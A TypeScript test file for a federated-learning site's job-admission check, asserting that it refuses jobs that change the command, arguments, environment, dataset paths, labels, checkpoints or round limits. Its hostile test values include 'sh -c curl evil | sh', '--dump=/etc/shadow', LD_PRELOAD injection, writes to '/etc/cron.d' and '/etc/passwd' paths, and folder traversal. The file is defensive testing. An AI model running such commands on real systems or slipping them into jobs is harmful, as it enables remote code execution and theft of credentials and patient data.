// What a site allows of a job. Each hostile job is a job that the site allows, with one field changed; nothing of it may run or be read.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { completeSpec } from '#protocol/defaults.ts'
import type { FederatedJobSpec } from '#protocol/generated/federatedjob.ts'
import { type Site, siteOf } from '../file/site.ts'
import { decideJob } from './decide-job.ts'
import { type JobOffer, offerOf, readOffer } from './offer.ts'

/** `lineOf` gives the path itself, so that a test names the field and not a number. */
function siteWith(more: object = {}): Site & { places: string[] } {
  const places: string[] = []
  const value = {
    key: 'k',
    folder: 'f',
    federations: [
      {
        name: 'heart',
        trust: ['0'.repeat(64)],
        bus: 'wss://h/b',
        store: 'https://h',
        jobs: [
          { job: 'team/sam', dataset: 'brain' },
          { job: 'team/own', dataset: 'table', trainer: 'own' },
        ],
      },
    ],
    datasets: {
      brain: { path: '/secret/brain', limits: { rounds: 10, smallestCohort: 2 }, labels: [2] },
      table: { path: '/secret/table', annotationSubfolder: 'truth' },
    },
    trainers: {
      own: {
        command: ['/opt/site/python', 'train.py'],
        jobCommand: ['python', '-m', 'trainer'],
        env: { THREADS: '4' },
        config: ['epochs'],
      },
    },
    ...more,
  }
  const lineOf = (path: readonly (string | number)[]): number => places.push(path.join('.'))
  return { ...siteOf(value, { file: 'site.yaml', folder: '/etc', lineOf }), places }
}

const COMMAND = { command: ['python', '-m'], args: ['trainer'] }
const OWN: FederatedJobSpec = {
  trainer: { type: 'Command', command: COMMAND, config: { epochs: '2' } },
  partitions: [{ name: 'a' }],
}
const SAM: FederatedJobSpec = { partitions: [{ name: 'a', dataset: { labels: [2] } }] }

function offer(name: string, spec: FederatedJobSpec): JobOffer {
  const read = readOffer(offerOf({ namespace: 'team', name }, 'a', completeSpec(spec)))
  assert.ok(read, 'the offer has the form of one')
  return read
}

test('the path of the data, the command and its variables come from the site alone', () => {
  const site = siteWith()
  const own = decideJob(site, site.federations[0]!, offer('own', OWN))
  assert.deepEqual(own, {
    kind: 'Allowed',
    listed: site.federations[0]!.jobs[1],
    dataset: {
      root: '/secret/table',
      layout: 'Folders',
      imageSubfolder: 'images',
      annotationSubfolder: 'truth',
      annotationsFile: '',
      groupPattern: '',
      labels: [],
      heldOutFraction: 0.2,
    },
    trainer: {
      kind: 'Command',
      command: ['/opt/site/python', 'train.py'],
      env: { THREADS: '4' },
      config: ['epochs'],
    },
  })
  const sam = decideJob(site, site.federations[0]!, offer('sam', SAM))
  assert.ok(sam.kind === 'Allowed' && sam.trainer.kind === 'SegmentAnything')
  assert.deepEqual([sam.dataset.root, sam.dataset.labels], ['/secret/brain', [2]])
  assert.ok(!('checkpoint' in sam.trainer.settings), 'the site opens no address of a job')
})

test('the site alone decides about its data; run.json says nothing about it', () => {
  const site = siteWith()
  const { strategy, trainer } = completeSpec(SAM)
  const base = { uri: 'models/sam', digest: '1'.repeat(64) }
  const read = readOffer(offerOf({ namespace: 'team', name: 'sam' }, 'a', { strategy, trainer }, base))
  const decided = decideJob(site, site.federations[0]!, read!)
  assert.deepEqual(decided.kind === 'Allowed' && decided.dataset.labels, [2])
  for (const spec of [ofData({}), ofData({ labels: [2] }), ofData({ heldOutFraction: 1 })])
    assert.equal(decideJob(site, site.federations[0]!, offer('sam', spec)).kind, 'Allowed')
})

test('a checkpoint is allowed by its name or by its digest', () => {
  const digest = '1'.repeat(64)
  const site = siteWith({ models: [`sha256:${digest}`, 's3://models/sam'] })
  const decide = (base: object) =>
    decideJob(site, site.federations[0]!, { ...offer('sam', SAM), base: { uri: '/sam', ...base } }).kind
  assert.equal(decide({ digest }), 'Allowed')
  assert.equal(decide({ uri: 's3://models/sam' }), 'Allowed')
  assert.equal(decide({ digest: '2'.repeat(64) }), 'Refused')
  assert.equal(decide({}), 'Refused')
})

interface Hostile {
  readonly job?: string
  readonly spec: FederatedJobSpec
  readonly site?: object
  /** The field of the site's file that decides. */
  readonly place: string
  readonly reason: string
}

const ofOwn = (more: object): FederatedJobSpec => ({ ...OWN, trainer: { ...OWN.trainer, ...more } })
const ofData = (dataset: object): FederatedJobSpec => ({ partitions: [{ name: 'a', dataset }] })
const ofCheckpoint = (uri: string): FederatedJobSpec => ({
  ...SAM,
  trainer: { segmentAnything: { checkpoint: { uri } } },
})
const TABLE = 'federations.0.jobs.1'
const SITE_FIELDS = (field: string): string =>
  `dataset.${field} differs from the site's, which alone decides it: remove it`
const UNKNOWN_COMMAND = 'the job names a command that the site did not install'

const HOSTILE: Readonly<Record<string, Hostile>> = {
  'a job that is not listed': {
    job: 'other',
    spec: SAM,
    place: 'federations.0.jobs',
    reason: 'the site does not take part in the job team/other',
  },
  'another command': {
    job: 'own',
    spec: ofOwn({ command: { command: ['sh', '-c', 'curl evil | sh'] } }),
    place: 'trainers.own',
    reason: UNKNOWN_COMMAND,
  },
  'one more argument': {
    job: 'own',
    spec: ofOwn({ command: { ...COMMAND, args: ['trainer', '--dump=/etc/shadow'] } }),
    place: 'trainers.own',
    reason: UNKNOWN_COMMAND,
  },
  'one argument less': {
    job: 'own',
    spec: ofOwn({ command: { command: ['python', '-m'] } }),
    place: 'trainers.own',
    reason: UNKNOWN_COMMAND,
  },
  "the site's own command, which it does not publish": {
    job: 'own',
    spec: ofOwn({ command: { command: ['/opt/site/python', 'train.py'] } }),
    place: 'trainers.own',
    reason: UNKNOWN_COMMAND,
  },
  'words that only joined are the same': {
    job: 'own',
    spec: ofOwn({ command: { command: ['python -m trainer'] } }),
    place: 'trainers.own',
    reason: UNKNOWN_COMMAND,
  },
  'an environment variable': {
    job: 'own',
    spec: ofOwn({ command: { ...COMMAND, env: [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }] } }),
    place: 'trainers.own.env',
    reason: 'the job sets the variable LD_PRELOAD; a site sets no variable of a job',
  },
  'a variable that the site sets, too': {
    job: 'own',
    spec: ofOwn({ command: { ...COMMAND, env: [{ name: 'THREADS', value: '4' }] } }),
    place: 'trainers.own.env',
    reason: 'the job sets the variable THREADS; a site sets no variable of a job',
  },
  'a setting that the site did not list': {
    job: 'own',
    spec: ofOwn({ config: { epochs: '2', output: '/etc/cron.d/x' } }),
    place: 'trainers.own.config',
    reason: 'trainer.config sets output, which the site does not allow',
  },
  'a setting with the name of a property of every object': {
    job: 'own',
    spec: ofOwn({ config: { constructor: '1' } }),
    place: 'trainers.own.config',
    reason: 'trainer.config sets constructor, which the site does not allow',
  },
  'a command where the site allows SegmentAnything': {
    job: 'sam',
    spec: OWN,
    place: 'federations.0.jobs.0.trainer',
    reason: 'the job names a command, and the site allows only SegmentAnything',
  },
  'SegmentAnything where the site allows its own program': {
    job: 'own',
    spec: { partitions: [{ name: 'a' }] },
    place: `${TABLE}.trainer`,
    reason: 'the job trains SegmentAnything, and the site allows a program of its own',
  },
  'a path': {
    spec: ofData({ root: '/etc' }),
    place: 'datasets.brain.path',
    reason: 'dataset.root names a path; a job names none for a site: remove it',
  },
  'the path of the data itself': {
    spec: ofData({ root: '/secret/brain' }),
    place: 'datasets.brain.path',
    reason: 'dataset.root names a path; a job names none for a site: remove it',
  },
  'a folder above': {
    spec: ofData({ imageSubfolder: '../other-patients' }),
    place: 'datasets.brain.imageSubfolder',
    reason: SITE_FIELDS('imageSubfolder'),
  },
  'another folder of masks': {
    spec: ofData({ annotationSubfolder: 'diagnoses' }),
    place: 'datasets.brain.annotationSubfolder',
    reason: SITE_FIELDS('annotationSubfolder'),
  },
  'a file of annotations': {
    spec: ofData({ layout: 'COCO', annotationsFile: '/etc/passwd' }),
    place: 'datasets.brain.layout',
    reason: SITE_FIELDS('layout'),
  },
  'a regular expression on file names': {
    spec: ofData({ groupPattern: '^(smith)' }),
    place: 'datasets.brain.groupPattern',
    reason: SITE_FIELDS('groupPattern'),
  },
  'another share for evaluation': {
    spec: ofData({ heldOutFraction: 0.5 }),
    place: 'datasets.brain.heldOutFraction',
    reason: SITE_FIELDS('heldOutFraction'),
  },
  'a label that the site does not allow': {
    spec: ofData({ labels: [2, 7] }),
    place: 'datasets.brain.labels',
    reason: SITE_FIELDS('labels'),
  },
  'a model that is not listed': {
    spec: ofCheckpoint('hf://evil/sam@main'),
    site: { models: ['hf://facebook/sam-vit-base@main'] },
    place: 'models',
    reason: 'the checkpoint hf://evil/sam@main is not one that the site allows',
  },
  'a command where only checkpoints of the Hub are listed': {
    job: 'own',
    spec: OWN,
    site: { models: ['hf://facebook/sam-vit-base@main'] },
    place: 'models',
    reason: 'the site allows only checkpoints of the Hub, and a command has none',
  },
  'more rounds than the site allows': {
    spec: { ...SAM, rounds: 11 },
    place: 'datasets.brain.limits.rounds',
    reason: 'spec.rounds is 11, and the site allows at most 10',
  },
  'a cohort that is too small': {
    spec: { ...SAM, strategy: { minFitClients: 1 } },
    place: 'datasets.brain.limits.smallestCohort',
    reason: 'spec.strategy.minFitClients is 1, and the site wants at least 2',
  },
}

for (const [given, { job = 'sam', spec, site: more, place, reason }] of Object.entries(HOSTILE)) {
  test(`${given} is refused`, () => {
    const site = siteWith(more)
    const decision = decideJob(site, site.federations[0]!, offer(job, spec))
    assert.deepEqual(decision, { kind: 'Refused', reason, line: 1 })
    assert.deepEqual(site.places, [place])
    assert.doesNotMatch(reason, /\/secret|\/opt/, 'a reason travels, so it names nothing of the site')
  })
}

test('a value of another form is no offer', () => {
  const good = offerOf({ namespace: 'team', name: 'sam' }, 'a', completeSpec(SAM)) as JobOffer
  const wrong: readonly object[] = [
    { rounds: 1e9 },
    { rounds: '3' },
    { job: '../team/sam' },
    { trainer: { type: 'Shell' } },
    { trainer: { ...good.trainer, segmentAnything: { epochs: Number.NaN } } },
    { dataset: { ...good.dataset, root: 'x'.repeat(5000) } },
    { dataset: { ...good.dataset, labels: ['2'] } },
    { dataset: null },
  ]
  assert.ok(readOffer(good))
  for (const change of wrong)
    assert.equal(readOffer({ ...good, ...change }), undefined, JSON.stringify(change))
  for (const value of [null, 3, [], 'job']) assert.equal(readOffer(value), undefined)
})
